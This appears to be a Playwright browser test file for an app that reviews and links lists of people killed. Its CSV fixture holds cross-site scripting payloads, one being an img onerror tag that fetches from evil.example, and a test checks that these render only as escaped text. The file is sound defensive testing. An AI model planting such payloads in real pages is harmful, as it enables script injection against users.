"""Victim lists in the browser: pairs judged with the keyboard, values opened for a reason, a list that comes in."""

from pathlib import Path

import pytest
from playwright.sync_api import expect

from firsthand.store import open_with_keys
from firsthand.workflow.victims import adding, linking
from tests.room_pages import base
from tests.rooms import filled, served

HOSTILE = """Name,Date of death,Place,Act,<img src=x onerror=fetch('//evil.example')>
Anton Relkov,2026-03-01,Karsk,killed,محمد "><script>alert(1)</script>
Mira Dansk,2026-03-02,Brenna,killed,שלום
Ilse Varga,2026-03-05,Tolvik,killed,
"""
OTHER = """Name,Date,Town,Fate
Anton Relkow,2026-03-01,Karsk,killed
Mira Danska,2026-03-03,Brenna,killed
Orlan Teskin,2026-03-05,Oskaja,killed
"""
EXAMPLES = Path(__file__).parents[2] / "examples" / "lists"


@pytest.fixture(scope="module")
def room(home):
    """A room whose case has three lists, two of them short, linked."""
    files = {"herald": EXAMPLES / "herald.csv"}
    for name, words in (("first", HOSTILE), ("second", OTHER)):
        files[name] = home / f"{name}.csv"
        files[name].write_text(words, encoding="utf-8")
    keys = filled(home / "case", [])
    with open_with_keys(home / "case", keys) as store:
        for name, path in files.items():
            adding.add(store, adding.Order(str(path), name, "count the dead", "Reviewer One"))
        linking.link(store, "Reviewer One")
    with served(home / "case", keys) as link:
        yield link


def heading(page):
    return page.get_by_role("heading", level=1)


def test_pairs_are_judged_undone_and_passed_over_with_the_keyboard(inside):
    inside.goto(f"{base(inside)}/lists", wait_until="networkidle")
    inside.keyboard.press("n")
    inside.wait_for_url("**/lists/pairs/q*", wait_until="networkidle")
    asked = heading(inside).inner_text()
    inside.keyboard.press("v")
    inside.keyboard.type("To judge the pairs.")
    inside.keyboard.press("Enter")
    expect(inside.get_by_role("table", name="What the two rows say")).to_be_visible()
    inside.wait_for_load_state("networkidle")
    inside.keyboard.press("d")
    inside.wait_for_url("**did=*", wait_until="networkidle")
    expect(inside.get_by_role("status").filter(has_text="two persons")).to_be_visible()
    assert heading(inside).inner_text() != asked
    inside.keyboard.press("u")
    inside.wait_for_url(lambda url: "did=" not in url, wait_until="networkidle")
    assert heading(inside).inner_text() == asked
    inside.keyboard.press("n")
    inside.wait_for_function(
        "asked => document.querySelector('h1').innerText !== asked", arg=asked, polling=100
    )


def test_hostile_cells_and_headers_are_words_and_run_from_their_own_side(inside):
    inside.goto(f"{base(inside)}/lists/people", wait_until="networkidle")
    inside.get_by_role("row").filter(has_text="first#1").get_by_role("link").click()
    inside.wait_for_url("**/people/p*", wait_until="networkidle")
    cell = inside.locator(".cell", has_text="محمد")
    expect(cell).to_contain_text("<script>alert(1)</script>")
    assert cell.evaluate("one => getComputedStyle(one).direction") == "rtl"
    expect(inside.get_by_role("rowheader", name="<img src=x")).to_be_visible()
    assert inside.locator("main img").count() == 0


def test_a_list_is_chosen_waits_over_a_reload_and_is_put_away(inside):
    inside.goto(f"{base(inside)}/lists/add", wait_until="networkidle")
    inside.get_by_label("The list: CSV").set_input_files(
        [{"name": "third.csv", "mimeType": "text/csv", "buffer": OTHER.encode()}]
    )
    expect(inside.get_by_label("Town")).to_have_value("place")
    inside.reload(wait_until="networkidle")
    expect(inside.get_by_label("Fate")).to_have_value("act")
    inside.get_by_role("button", name="Choose another file").click()
    expect(inside.get_by_label("The list: CSV")).to_be_visible()
